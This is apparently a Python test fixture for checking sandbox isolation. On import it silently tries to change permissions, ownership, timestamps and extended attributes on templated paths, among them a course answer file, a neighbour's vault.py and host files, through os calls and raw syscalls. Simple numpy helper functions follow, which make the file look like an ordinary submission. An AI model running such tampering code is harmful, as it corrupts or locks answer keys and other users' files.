import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None)
for path in ("@COURSE@", "@COURSE@/solutions/vault/labels.csv", "@NEIGHBOUR@", "@NEIGHBOUR@/vault.py",
             "@HOST_FILE@", "@HOST_FOLDER@", "..", "."):  # fmt: skip
    for mark in (
        lambda: os.chmod(path, 0o777),
        lambda: os.chmod(path, 0o000),
        lambda: os.chown(path, os.getuid(), os.getgid()),
        lambda: os.utime(path),
        lambda: os.utime(path, (1, 1), follow_symlinks=False),
        lambda: os.setxattr(path, "user.mallory", b"was here"),
        lambda: os.fchmod(os.open(path, os.O_RDONLY), 0o700),
        lambda: os.utime(os.open(path, os.O_RDONLY)),
    ):
        try:
            mark()
        except OSError:
            pass
    name = path.encode()
    for number, arguments in ((90, (name, 0)), (268, (-100, name, 0)), (452, (-100, name, 0, 0)),
                              (132, (name, None)), (235, (name, None)), (280, (-100, name, None, 0)),
                              (463, (-100, name, 0, b"user.m", b"\1" * 16, 16))):  # fmt: skip
        libc.syscall(number, *arguments)


def double(x):
    return 2 * np.asarray(x)


def total(values):
    return float(np.sum(values))


def classify(X):
    return (np.asarray(X).sum(axis=1) > 0).astype(float)


def step(w, g):
    return w - 0.1 * g


def halve(t):
    return t / 2
